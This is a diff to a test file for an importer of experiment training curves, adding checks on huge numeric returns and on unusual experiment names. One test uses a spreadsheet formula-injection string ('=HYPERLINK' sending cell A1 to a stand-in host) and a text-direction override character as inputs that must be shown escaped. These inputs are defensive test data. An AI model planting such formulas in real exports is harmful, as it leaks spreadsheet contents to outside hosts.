@@ -120,7 +120,7 @@ describe('curves', () => {
 
   it('have names that end in a whole character', () => {
     const csv = curvesCsv([{ ...experiment, name: `n${'🦄'.repeat(40)}` }]);
-    expect(experimentsIn(csv)[0].name).toBe(`n${'🦄'.repeat(29)}`);
+    expect(experimentsIn(csv)[0].name).toBe(`n${'🦄'.repeat(29)}…`);
   });
 
   it('are written as CSV of which a spreadsheet runs no name', () => {
@@ -280,7 +280,18 @@ describe('what cannot be imported', () => {
       json.replace(/"experiments": \[.*\]/s, '"experiments": []'),
       'no experiment',
     ],
-    ['JSON with a broken return', json.replace('31.1', '"31.1"'), 'Experiment 1 of 1 is broken.'],
+    ['JSON with a broken return', json.replace('31.1', '"31.1"'), 'Experiment 1 of 1 is broken:'],
+    ['JSON with a huge return', json.replace('31.1', '1.7e308'), 'Experiment 1 of 1 is broken:'],
+    [
+      'a CSV with a huge return',
+      csv.replace('31.1', '-1.7e308'),
+      '“-1.7e308” for mean_return, which is too large',
+    ],
+    [
+      'a log with a huge return',
+      'epoch: 0 \t return: 1e300 \t ep_len: 2',
+      '“1e300” for return, which is too large',
+    ],
     ['a log with nan', 'epoch:   0 \t loss: 1 \t return: nan \t ep_len: 2', '“nan” for return'],
     ['a log with a broken length', 'epoch: 0 \t return: 1 \t ep_len: x', '“x” for ep_len'],
     ['a log without returns', 'epoch:   0 \t loss: 1', 'Line 1 has no return.'],
@@ -294,6 +305,19 @@ describe('what cannot be imported', () => {
     if (imported.ok) return;
     expect(imported.text).toContain(sentence);
     expect(imported.text).toMatch(/^some file\.txt: .* Nothing was imported\.$/);
+  });
+
+  it('has a name of its own that can be seen, or else is written out', () => {
+    for (const [name, shown] of [
+      ['ctl\u0001\b\ufffe', 'ctl␁␈\\u{fffe}'],
+      ['=HYPERLINK("http://a/?"&A1)\nx', '=HYPERLINK("http://a/?"&A1)␊x'],
+      ['\u202eabc', '\\u{202e}abc'],
+    ]) {
+      const document = JSON.parse(json);
+      document.experiments[0].name = name;
+      const imported = read(JSON.stringify(document));
+      expect(imported).toMatchObject({ ok: true, experiments: [{ name: shown }] });
+    }
   });
 
   it('never throws', () => {
